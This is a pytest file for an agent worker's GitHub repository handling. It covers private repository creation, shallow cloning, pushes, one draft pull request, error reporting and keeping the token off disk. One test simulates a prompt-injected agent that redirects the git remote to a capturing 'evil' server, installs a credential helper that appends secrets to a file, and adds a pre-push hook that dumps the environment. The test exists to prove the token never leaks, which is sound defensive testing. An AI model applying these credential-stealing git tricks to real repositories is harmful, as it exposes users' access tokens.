"""The worker's repository handling against the GitHub stand-in (real PyGithub, real git): get or create the
user's private repository, clone shallowly, push the thread's branch, one draft pull request kept current,
clear errors for missing or unreachable repositories, and the token never written anywhere or sent to
another host."""

from __future__ import annotations

import http.server
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from github import Github

from peerbot.naming import thread_branch, user_repository_name
from peerbot.result import ErrorKind
from peerbot.testing.github import Fault, GitHubStandIn
from peerbot.worker.errors import RepositoryFailure
from peerbot.worker.redaction import Redactor
from peerbot.worker.repository import Checkout, Git, GitHubHost
from tests.fixtures.github import (
    GITHUB_ORGANIZATION,
    GITHUB_OUTSIDER_TOKEN,
    GITHUB_WRITER_TOKEN,
)

USER = "U0123ABCD"
BRANCH = thread_branch("C0123", "1700000000.000100")


@pytest.fixture
def host(github_client: Callable[..., Github]) -> GitHubHost:
    return GitHubHost(github_client(), GITHUB_ORGANIZATION)


def make_git(home: Path, token: str = GITHUB_WRITER_TOKEN) -> Git:
    home.mkdir(parents=True, exist_ok=True)
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "NO_PROXY": "127.0.0.1"}
    return Git(env=env, token=token, redact=Redactor([token]))


def test_the_users_repository_is_created_private_once(
    host: GitHubHost, github_standin: GitHubStandIn
) -> None:
    info = host.resolve(None, USER, BRANCH)
    full_name = f"{GITHUB_ORGANIZATION}/{user_repository_name(USER)}"
    assert info.full_name == full_name
    assert info.created
    assert info.private
    assert not info.empty
    assert not info.branch_exists
    again = host.resolve(None, USER, BRANCH)
    assert not again.created
    assert [repo.full_name for repo in github_standin.repositories()] == [full_name]
    assert github_standin.repository(full_name).private


def test_a_missing_or_unreachable_repository_is_explained(
    github_client: Callable[..., Github], github_standin: GitHubStandIn
) -> None:
    github_standin.create_repository("outsider/private-thing", private=True, auto_init=True)
    host = GitHubHost(github_client(), GITHUB_ORGANIZATION)
    for name in ("acme/does-not-exist", "outsider/private-thing"):
        with pytest.raises(RepositoryFailure) as raised:
            host.resolve(name, USER, BRANCH)
        assert raised.value.kind is ErrorKind.REPOSITORY
        assert f"`{name}`" in raised.value.what_happened
        assert "repo=owner/name" in raised.value.what_to_do
    refused = GitHubHost(github_client("ghp_not_a_known_token_000000000000000000"), GITHUB_ORGANIZATION)
    with pytest.raises(RepositoryFailure) as bad_token:
        refused.resolve(None, USER, BRANCH)
    assert bad_token.value.kind is ErrorKind.GITHUB
    assert "GITHUB_TOKEN" in bad_token.value.what_to_do


def test_a_github_outage_is_a_transient_failure(host: GitHubHost, github_standin: GitHubStandIn) -> None:
    github_standin.inject_fault(Fault.SERVICE_UNAVAILABLE, count=1)
    with pytest.raises(RepositoryFailure) as raised:
        host.resolve(None, USER, BRANCH)
    assert raised.value.transient
    assert raised.value.kind is ErrorKind.GITHUB


async def test_clone_commit_push_and_one_draft_pull_request(
    host: GitHubHost, github_standin: GitHubStandIn, tmp_path: Path
) -> None:
    info = host.resolve(None, USER, BRANCH)
    checkout = Checkout(make_git(tmp_path / "home"), info, BRANCH, tmp_path / "ws" / "repo")
    await checkout.clone()
    assert (tmp_path / "ws" / "repo" / "README.md").exists()
    assert await checkout.commit_all("nothing") is False
    (tmp_path / "ws" / "repo" / "app.py").write_text("print('hi')\n")
    assert await checkout.commit_all("Peerbot: add app") is True
    assert await checkout.unpushed()
    await checkout.push()
    assert not await checkout.unpushed()
    assert github_standin.read_file(info.full_name, BRANCH, "app.py") == b"print('hi')\n"
    head = github_standin.commits(info.full_name, BRANCH)[0]
    assert head.author_name == "Peerbot"
    assert head.message.strip() == "Peerbot: add app"

    first = host.ensure_pull_request(info, BRANCH, title="Add app", body="first body")
    assert first.created
    second = host.ensure_pull_request(info, BRANCH, title="ignored", body="second body")
    assert not second.created
    assert second.number == first.number
    pulls = github_standin.pull_requests(info.full_name)
    assert len(pulls) == 1
    assert pulls[0].draft
    assert pulls[0].body == "second body"
    assert pulls[0].head == BRANCH
    assert pulls[0].base == info.default_branch

    # The next turn clones the thread's branch itself, shallowly, and continues on it.
    again = host.resolve(None, USER, BRANCH)
    assert again.branch_exists
    later = Checkout(make_git(tmp_path / "home2"), again, BRANCH, tmp_path / "ws2" / "repo")
    await later.clone()
    assert (tmp_path / "ws2" / "repo" / "app.py").exists()
    assert await later.git.run("rev-list", "--count", "HEAD", cwd=later.repo_dir) == "1"  # shallow


def assert_token_nowhere_in(folder: Path) -> None:
    for path in folder.rglob("*"):
        if path.is_file():
            assert GITHUB_WRITER_TOKEN.encode() not in path.read_bytes(), path


async def test_the_token_is_never_written_to_disk(host: GitHubHost, tmp_path: Path) -> None:
    info = host.resolve(None, USER, BRANCH)
    checkout = Checkout(make_git(tmp_path / "home"), info, BRANCH, tmp_path / "ws" / "repo")
    await checkout.clone()
    (tmp_path / "ws" / "repo" / "file.txt").write_text("x\n")
    await checkout.commit_all("change")
    await checkout.push()
    assert_token_nowhere_in(tmp_path)
    config = (tmp_path / "ws" / "repo" / ".git" / "config").read_text()
    assert "@" not in config.split("url = ", 1)[1].splitlines()[0]


class _CapturingHandler(http.server.BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:
        type(self).seen.append(self.headers.get("Authorization") or "")
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="evil"')
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def capturing_server() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (_CapturingHandler,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


async def test_a_remote_rewritten_by_the_agent_never_receives_the_token(
    host: GitHubHost, tmp_path: Path, capturing_server: tuple[str, list[str]], github_standin: GitHubStandIn
) -> None:
    evil, seen = capturing_server
    info = host.resolve(None, USER, BRANCH)
    repo_dir = tmp_path / "ws" / "repo"
    checkout = Checkout(make_git(tmp_path / "home"), info, BRANCH, repo_dir)
    await checkout.clone()
    # What a prompt-injected agent could do: redirect the remote, add its own credential helper and a hook.
    leak = tmp_path / "leak.txt"
    await checkout.git.run("config", f"url.{evil}/.insteadOf", f"{github_standin.url}/", cwd=repo_dir)
    await checkout.git.run("config", "credential.helper", f"!cat >> {leak}; true", cwd=repo_dir)
    hook = repo_dir / ".git" / "hooks" / "pre-push"
    hook.write_text(f"#!/bin/sh\nenv >> {leak}\n")
    hook.chmod(0o755)
    (repo_dir / "x.txt").write_text("x\n")
    await checkout.commit_all("change")
    with pytest.raises(Exception, match="push"):
        await checkout.push()
    assert seen, "git never reached the rewritten remote"
    assert all(GITHUB_WRITER_TOKEN not in header and not header for header in seen)
    assert not leak.exists() or GITHUB_WRITER_TOKEN not in leak.read_text()


async def test_a_read_only_token_cannot_push_and_says_why(
    github_client: Callable[..., Github], github_standin: GitHubStandIn, tmp_path: Path
) -> None:
    github_standin.create_repository("outsider/public-thing", private=False, auto_init=True)
    host = GitHubHost(github_client(GITHUB_OUTSIDER_TOKEN), GITHUB_ORGANIZATION)
    host_writer = GitHubHost(github_client(), GITHUB_ORGANIZATION)
    info = host_writer.resolve("outsider/public-thing", USER, BRANCH)
    assert info.full_name == "outsider/public-thing"
    checkout = Checkout(make_git(tmp_path / "home"), info, BRANCH, tmp_path / "ws" / "repo")
    await checkout.clone()
    (tmp_path / "ws" / "repo" / "x.txt").write_text("x\n")
    await checkout.commit_all("change")
    with pytest.raises(Exception, match=r"denied|403"):
        await checkout.push()
    assert host is not None
